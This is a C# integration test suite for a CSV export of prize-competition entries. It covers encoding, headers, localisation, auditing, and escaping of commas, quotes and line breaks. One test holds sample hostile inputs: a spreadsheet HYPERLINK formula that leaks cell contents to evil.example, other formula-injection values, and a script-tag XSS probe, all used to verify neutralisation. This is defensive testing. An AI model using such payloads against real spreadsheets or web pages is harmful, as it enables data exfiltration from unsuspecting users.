using System.Net;
using System.Text;
using Microsoft.EntityFrameworkCore;
using PreventionPrize.Core.Accounts;
using PreventionPrize.Core.Calls;
using PreventionPrize.Core.Entries;

namespace PreventionPrize.IntegrationTests.Screening;

public sealed class ExportEntriesTests(PrizeAppFactory app) : IClassFixture<PrizeAppFactory>
{
    private static readonly string[] EnglishHeader =
    [
        "Reference", "Status", "Language", "Submitted (UTC)", "Late", "Country", "Organisation", "Type of organisation",
        "Contact person", "Contact e-mail", "Title", "Participants under 25", "Participants under 18", "Adults",
        "Digital behaviours", "Target groups", "Identity warnings", "Files with metadata warnings",
    ];

    private static async Task<(HttpResponseMessage Response, byte[] Bytes, List<List<string>> Rows)> DownloadAsync(TestClient client, Call call)
    {
        var response = await client.Http.GetAsync($"/secretariat/calls/{call.Code}/entries.csv");
        var bytes = await response.Content.ReadAsByteArrayAsync();
        return (response, bytes, response.IsSuccessStatusCode ? CsvText.Parse(Encoding.UTF8.GetString(bytes.AsSpan(3))) : []);
    }

    [Fact]
    public async Task The_export_is_UTF8_with_a_BOM_has_a_header_and_every_application_but_no_draft()
    {
        var call = await EntryBuilder.CreateCallAsync(app);
        var first = await new EntryBuilder(app).In(call).Late().With(e => e.Title = "Jeux d'écran").SaveAsync();
        await new EntryBuilder(app).In(call).WithStatus(EntryStatus.Withdrawn).SaveAsync();
        await new EntryBuilder(app).In(call).WithStatus(EntryStatus.Draft).With(e => e.Title = "Unfinished draft").SaveAsync();
        using var secretariat = await app.SignedInAsync(Roles.Secretariat);

        var (response, bytes, rows) = await DownloadAsync(secretariat, call);

        Assert.Equal(HttpStatusCode.OK, response.StatusCode);
        Assert.Equal("text/csv", response.Content.Headers.ContentType!.MediaType);
        Assert.Equal("utf-8", response.Content.Headers.ContentType.CharSet);
        Assert.StartsWith($"{call.Code}-entries-", response.Content.Headers.ContentDisposition!.FileName);
        Assert.Equal("attachment", response.Content.Headers.ContentDisposition.DispositionType);
        Assert.Equal(new byte[] { 0xEF, 0xBB, 0xBF }, bytes[..3]);
        Assert.Equal(EnglishHeader, rows[0]);
        Assert.Equal(3, rows.Count);
        Assert.All(rows, row => Assert.Equal(EnglishHeader.Length, row.Count));
        Assert.DoesNotContain(rows, row => row.Contains("Unfinished draft"));
        var row = rows[1];
        Assert.Equal([first.Reference!, "Submitted", "en"], row[..3]);
        Assert.Equal(first.SubmittedAtUtc!.Value.ToString("yyyy-MM-dd'T'HH:mm:ss'Z'"), row[3]);
        Assert.Matches(@"^\d{4}-\d\d-\d\dT\d\d:\d\d:\d\dZ$", row[3]);
        Assert.Equal(["true", "FR", "Connected Youth Association", "NGO", "Camille Martin", first.ContactEmail, "Jeux d'écran", "40", "25", "5"], row[4..14]);
        Assert.Equal(["gaming; social-media", "adolescents; parents", "", "0"], row[14..]);
        Assert.Equal("Withdrawn", rows[2][1]);

        var audit = await app.WithDbAsync(db => db.AuditEvents.SingleAsync(a => a.Action == "entries.exported" && a.Subject == $"call:{call.Code}"));
        Assert.Equal("2 entries", audit.Details);
        Assert.NotNull(audit.ActorId);
    }

    [Fact]
    public async Task Commas_quotes_and_line_breaks_survive_and_formulas_are_neutralised()
    {
        var call = await EntryBuilder.CreateCallAsync(app);
        await new EntryBuilder(app).In(call).With(e =>
        {
            e.Title = "Screens, \"games\" and\nsleep";
            e.OrganisationName = "=HYPERLINK(\"http://evil.example/?leak=\"&A1,\"Click\")";
            e.ContactName = "+1";
            e.Summary = "Plain.";
        }).SaveAsync();
        await new EntryBuilder(app).In(call).With(e =>
        {
            e.Title = "@SUM(A1:A9)";
            e.OrganisationName = "-2";
            e.ContactName = "<script>alert(1)</script>";
        }).SaveAsync();
        using var secretariat = await app.SignedInAsync(Roles.Secretariat);

        var (_, bytes, rows) = await DownloadAsync(secretariat, call);

        var raw = Encoding.UTF8.GetString(bytes);
        Assert.Contains("\"Screens, \"\"games\"\" and\nsleep\"", raw);
        Assert.Equal("Screens, \"games\" and\nsleep", rows[1][10]);
        Assert.Equal("'=HYPERLINK(\"http://evil.example/?leak=\"&A1,\"Click\")", rows[1][6]);
        Assert.Equal("'+1", rows[1][8]);
        Assert.Equal("'@SUM(A1:A9)", rows[2][10]);
        Assert.Equal("'-2", rows[2][6]);
        Assert.Equal("<script>alert(1)</script>", rows[2][8]);
        Assert.DoesNotContain(rows.Skip(1).SelectMany(r => r), cell => cell.Length > 0 && "=+-@\t\r".Contains(cell[0]));
    }

    [Fact]
    public async Task The_header_follows_the_readers_language()
    {
        var call = await EntryBuilder.CreateCallAsync(app);
        using var secretariat = await app.SignedInAsync(Roles.Secretariat);
        await secretariat.SwitchLanguageAsync("fr");

        var (_, _, rows) = await DownloadAsync(secretariat, call);

        Assert.Equal(["Référence", "Statut", "Langue", "Soumise le (UTC)"], rows[0][..4]);
        Assert.Single(rows);
    }

    [Fact]
    public async Task The_export_of_an_unknown_call_is_404()
    {
        using var secretariat = await app.SignedInAsync(Roles.Secretariat);

        var response = await secretariat.Http.GetAsync("/secretariat/calls/NO-SUCH-CALL/entries.csv");

        Assert.Equal(HttpStatusCode.NotFound, response.StatusCode);
    }
}
